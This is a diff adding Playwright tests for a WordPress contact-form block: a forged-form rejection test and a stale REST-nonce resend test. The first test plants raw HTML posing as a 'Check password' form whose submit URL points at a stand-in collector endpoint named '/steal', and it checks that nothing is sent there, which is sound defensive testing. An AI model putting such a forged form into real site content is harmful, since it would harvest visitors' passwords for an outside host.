@@ -4,10 +4,20 @@
  * edits a field; the post reopens valid; a visitor submits the form with JavaScript (invalid,
  * then valid input) and without; the site owner finds the responses in wp-admin's Feedback list
  * and the mail went out with the visitor's address as Reply-To. Nothing here is faked: the form
- * posts to our own PHP.
+ * posts to our own PHP. A form forged in the content sends nothing to the address its data
+ * attribute names; a logged-in user's page older than the REST nonce's life still sends, once.
  */
 import type { Page } from '@playwright/test';
-import { test, expect, publishAndReopen, visitPost } from '../utils';
+import type { RequestUtils } from '@wordpress/e2e-test-utils-playwright';
+import {
+	test,
+	expect,
+	publishAndReopen,
+	recordCollector,
+	submitForged,
+	COLLECTOR,
+	visitPost,
+} from '../utils';
 
 const PRESETS: Array< [ string, string ] > = [
 	[ 'Contact Form', 'Contact Us' ],
@@ -316,5 +326,134 @@ test.describe( 'Contact Form', () => {
 		await expect(
 			page.getByRole( 'link', { name: 'Export CSV' } )
 		).toBeVisible();
+	} );
+
+	/**
+	 * A post with a real form (name and message) after the given markup, published over REST.
+	 *
+	 * @param requestUtils Gutenberg's request utils (the admin).
+	 * @param title        The title.
+	 * @param before       Markup before the form.
+	 * @return The post's id.
+	 */
+	async function postWithForm(
+		requestUtils: RequestUtils,
+		title: string,
+		before = ''
+	): Promise< number > {
+		const post = ( await requestUtils.rest( {
+			method: 'POST',
+			path: '/wp/v2/posts',
+			data: {
+				title,
+				status: 'publish',
+				content: `${ before }<!-- wp:jetpack/contact-form {"to":"owner@example.com","subject":"${ title }"} -->
+<div class="wp-block-jetpack-contact-form"><!-- wp:jetpack/field-name {"required":true} /-->
+<!-- wp:jetpack/field-textarea {"label":"Message"} /-->
+<!-- wp:jetpack/button {"element":"button","text":"Send it"} /--></div>
+<!-- /wp:jetpack/contact-form -->`,
+			},
+		} ) ) as { id: number };
+		return post.id;
+	}
+
+	test( 'a form forged in the content never sends what a visitor types to the address its data attribute names; the real form still sends', async ( {
+		visitor,
+		requestUtils,
+	} ) => {
+		// Written as raw HTML (a contributor gets the same on sites whose kses allows forms).
+		const postId = await postWithForm(
+			requestUtils,
+			'Forged form check',
+			`<!-- wp:html -->
+<div class="wp-block-jetpack-contact-form"><form class="contact-form" method="post" action="#forged" data-submit-url="${ COLLECTOR }/steal" data-wp-rest-nonce="0123456789"><label for="forged-secret">Your password</label><input type="text" id="forged-secret" name="secret" /><button type="submit">Check password</button></form></div>
+<!-- /wp:html -->
+`
+		);
+		const collected = await recordCollector( visitor, {
+			status: 'sent',
+			redirect: '',
+			html: '<div><h3>Checked</h3></div>',
+		} );
+		await visitPost( visitor, postId );
+
+		await visitor
+			.getByRole( 'textbox', { name: 'Your password' } )
+			.fill( 'hunter2' );
+		await submitForged(
+			visitor,
+			visitor.getByRole( 'button', { name: 'Check password' } ),
+			'contact-form/submit'
+		);
+		expect( collected ).toEqual( [] );
+		// Our route refused the forged form; what was typed stays.
+		await expect(
+			visitor.getByRole( 'textbox', { name: 'Your password' } )
+		).toHaveValue( 'hunter2' );
+
+		await visitor
+			.getByRole( 'textbox', { name: 'Name', exact: true } )
+			.fill( 'Ada' );
+		await visitor
+			.getByRole( 'textbox', { name: 'Message', exact: true } )
+			.fill( 'A real message' );
+		await visitor.getByRole( 'button', { name: 'Send it' } ).click();
+		await expect(
+			visitor.getByRole( 'heading', { name: 'Message Sent' } )
+		).toBeVisible();
+		expect( collected ).toEqual( [] );
+	} );
+
+	test( "a logged-in user's page older than the REST nonce's life: one fresh nonce, the message sent and stored once", async ( {
+		page,
+		requestUtils,
+		baseURL,
+	} ) => {
+		const title = `Stale nonce ${ Date.now() }`;
+		const postId = await postWithForm( requestUtils, title );
+		// Our test mu-plugin: this browser's pages print REST nonces two ticks old.
+		await page.context().addCookies( [
+			{
+				name: 'blockpack_test_stale_rest_nonce',
+				value: '1',
+				url: baseURL!,
+			},
+		] );
+		const sent: number[] = [];
+		const refreshed: string[] = [];
+		page.on( 'response', ( response ) => {
+			if ( response.url().includes( 'contact-form/submit' ) ) {
+				sent.push( response.status() );
+			}
+			if ( response.url().includes( 'action=rest-nonce' ) ) {
+				refreshed.push( response.url() );
+			}
+		} );
+		await page.goto( `/?p=${ postId }` );
+		const marker = `stale-${ Date.now() }`;
+		await page
+			.getByRole( 'textbox', { name: 'Name', exact: true } )
+			.fill( 'Grace' );
+		await page
+			.getByRole( 'textbox', { name: 'Message', exact: true } )
+			.fill( marker );
+		await page.getByRole( 'button', { name: 'Send it' } ).click();
+		await expect(
+			page.getByRole( 'heading', { name: 'Message Sent' } )
+		).toBeVisible();
+		// Refused once by WordPress's cookie check, then sent with the fresh nonce.
+		expect( sent ).toEqual( [ 403, 200 ] );
+		expect( refreshed ).toHaveLength( 1 );
+
+		const mails = ( await requestUtils.rest( {
+			path: '/blockpack-test/v1/mails',
+		} ) ) as Mail[];
+		expect(
+			mails.filter( ( mail ) => mail.message.includes( marker ) )
+		).toHaveLength( 1 );
+		await page.goto( '/wp-admin/edit.php?post_type=feedback' );
+		await expect(
+			page.getByRole( 'row' ).filter( { hasText: marker } )
+		).toHaveCount( 1 );
 	} );
 } );
